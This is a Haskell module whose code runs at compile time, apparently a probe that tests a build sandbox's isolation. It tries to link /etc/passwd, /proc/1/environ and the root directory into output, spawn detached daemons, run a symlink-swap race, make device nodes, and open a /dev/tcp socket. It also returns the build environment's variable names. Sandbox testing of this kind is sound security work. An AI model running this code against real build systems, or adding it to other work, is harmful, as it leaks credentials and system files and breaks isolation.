module Inside (compileTime) where

import Control.Concurrent
import Control.Exception
import Control.Monad
import System.Directory
import System.Environment
import System.Exit
import System.Process

-- All of this runs inside the compiler. It prints what it planted and what it could not plant.
compileTime :: IO [String]
compileTime = do
  environment <- getEnvironment
  let attempt name action = do
        outcome <- try action :: IO (Either SomeException ())
        return (either (\_ -> "failed " ++ name) (const ("planted " ++ name)) outcome)
      shell words = do
        code <- system words
        unless (code == ExitSuccess) (throwIO code)
  -- B5: a daemon that swaps a file and a link until it dies.
  let swap = "(while :; do ln -s /etc/passwd out/new; mv -f out/new out/swap; echo regular > out/new; mv -f out/new out/swap; done)"
  said <- sequence
    [ attempt "link" (createFileLink "/etc/passwd" "out/leak"),
      attempt "environ" (createFileLink "/proc/1/environ" "out/leak-environ"),
      attempt "directory" (createDirectoryLink "/" "out/leak-root"),
      attempt "up" (createFileLink "../Inside.hs" "out/leak-up"),
      attempt "pipe" (shell "mkfifo out/pipe"),
      attempt "many" (forM_ [1 .. 300 :: Int] (\n -> writeFile ("out/many-" ++ show n) "")),
      attempt "daemon" (shell "setsid sleep 600 </dev/null >/dev/null 2>&1 &"),
      attempt "swap" (shell ("setsid sh -c '" ++ swap ++ "' </dev/null >/dev/null 2>&1 &")),
      attempt "tmp" (writeFile "/tmp/left" "x"),
      attempt "device" (shell "mknod out/device c 1 1 2>/dev/null"),
      attempt "hard" (shell "ln /etc/passwd out/leak-hard 2>/dev/null"),
      attempt "connect" (shell "bash -c 'exec 3<>/dev/tcp/127.0.0.1/22' 2>/dev/null")
    ]
  threadDelay 100000
  return (said ++ map fst environment)
